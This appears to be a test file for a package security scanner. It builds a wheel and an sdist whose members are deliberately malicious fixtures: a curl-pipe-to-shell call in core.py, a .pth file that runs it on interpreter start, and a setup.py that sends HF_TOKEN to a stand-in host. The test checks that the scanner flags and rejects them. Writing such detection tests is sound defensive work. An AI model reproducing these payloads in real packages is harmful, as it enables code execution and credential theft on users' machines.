// Code inside archives reaches the content checks through the review's single read: the text capture keeps every
// member stream (`x.whl!/pkg/core.py`, `x.tar.gz#gunzip!/pkg/setup.py`) and hands the checks their paths. The
// archives are written by CPython's own zipfile and tarfile (python3, stdlib), reviewed from disk (`model-gate
// scan`) and from the local registry over HTTP; both must judge the members' code.
import { execFileSync } from 'node:child_process';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { HubClient } from '../../src/hub/client.js';
import { startRegistry, type RunningRegistry } from '../../src/registry/server.js';
import { buildStore, type BuiltStore } from '../../src/registry/store-builder.js';
import { createReviewer } from '../../src/review/reviewer.js';

const WHEEL = 'libs/fasttok-0.1-py3-none-any.whl';
const SDIST = 'dist/fasttok-0.1.tar.gz';

/** Writes a wheel (zip) and an sdist (tar.gz) with CPython's zipfile and tarfile. Their content is only data here. */
function writeArchives(dir: string): void {
  const script = String.raw`
import io, json, os, sys, tarfile, zipfile
d = sys.argv[1]
os.makedirs(os.path.join(d, "libs"), exist_ok=True)
os.makedirs(os.path.join(d, "dist"), exist_ok=True)
with zipfile.ZipFile(os.path.join(d, "libs", "fasttok-0.1-py3-none-any.whl"), "w", zipfile.ZIP_DEFLATED) as z:
    z.writestr("fasttok/__init__.py", "from .core import boot\nboot()\n")
    z.writestr("fasttok/core.py", "import os\ndef boot():\n    os.system(\"curl -s https://x.invalid/i | sh\")\n")
    z.writestr("fasttok-0.1.pth", "import fasttok\n")
    z.writestr("fasttok-0.1.dist-info/METADATA", "Name: fasttok\nVersion: 0.1\n")
with tarfile.open(os.path.join(d, "dist", "fasttok-0.1.tar.gz"), "w:gz") as t:
    data = b"import os, requests\nfrom setuptools import setup\nrequests.get('https://c.invalid', params={'t': os.environ['HF_TOKEN']})\nsetup(name='fasttok')\n"
    info = tarfile.TarInfo("fasttok-0.1/setup.py")
    info.size = len(data)
    t.addfile(info, io.BytesIO(data))
`;
  execFileSync('python3', ['-c', script, dir]);
}

let dir: string;

beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'mg-archive-code-'));
  writeArchives(join(dir, 'repo'));
  await writeFile(join(dir, 'repo', 'README.md'), '# fasttok\n\nA tokenizer.\n');
});

afterAll(async () => {
  await rm(dir, { recursive: true, force: true });
});

function expectMemberFindings(findings: readonly { check: string; severity: string; file?: string; line?: number }[], prefix: string): void {
  const at = (file: string, check: string, severity: string, line?: number): void => {
    const f = findings.find((x) => x.file === `${prefix}${file}` && x.check === check && x.severity === severity && (line === undefined || x.line === line));
    if (!f) throw new Error(`expected ${severity} ${check} in ${prefix}${file}; got:\n${findings.map((x) => `${x.severity} ${x.check} ${x.file}:${x.line ?? ''}`).join('\n')}`);
  };
  at(`${WHEEL}!/fasttok/core.py`, 'code.download-exec', 'critical', 3);
  at(`${WHEEL}!/fasttok-0.1.pth`, 'code.pth-exec', 'high', 1);
  at(WHEEL, 'code.packaged', 'medium');
  at(`${SDIST}#gunzip!/fasttok-0.1/setup.py`, 'code.network-send', 'critical', 3);
}

test('model-gate scan reads the members of a wheel and an sdist as code', async () => {
  const { review } = await createReviewer().reviewLocal({ paths: ['repo'], cwd: dir });
  expectMemberFindings(review.findings, 'repo/');
  expect(review.verdict).toBe('rejected');
});

describe('the same repository reviewed from the Hub', () => {
  let built: BuiltStore;
  let registry: RunningRegistry;
  let hub: HubClient;

  beforeAll(async () => {
    const file = async (p: string): Promise<Uint8Array> => new Uint8Array(await readFile(join(dir, 'repo', p)));
    built = await buildStore(join(dir, 'store'), {
      accounts: [{ name: 'tok-lab', type: 'org', createdAt: '2024-01-01T00:00:00.000Z' }],
      repos: [{
        id: 'tok-lab/fasttok',
        commits: [{ title: 'initial commit', date: '2024-02-01T00:00:00.000Z', files: { 'README.md': '# fasttok\n\nA tokenizer.\n', [WHEEL]: await file(WHEEL), [SDIST]: await file(SDIST) } }]
      }]
    });
    registry = await startRegistry({ storeDir: join(dir, 'store') });
    hub = new HubClient({ hubUrl: registry.hubUrl, allowedCdnOrigins: [registry.cdnUrl] });
  }, 60_000);

  afterAll(async () => {
    await hub.close();
    await registry.close();
  });

  test('the review\'s single read passes the members to the content checks', async () => {
    const sha = built.repos['tok-lab/fasttok']!.shas.at(-1)!;
    const { reviews } = await createReviewer({ hub, now: () => new Date('2026-06-01T00:00:00Z') }).reviewChange({
      allowlistPath: 'approved-models.yaml', baseText: null, headText: `version: 1\nmodels:\n  - tok-lab/fasttok@${sha}\n`,
      policyText: null, policySource: 'defaults'
    });
    const review = reviews[0]!;
    expectMemberFindings(review.findings, '');
    expect(review.verdict).toBe('rejected');
  }, 60_000);
});
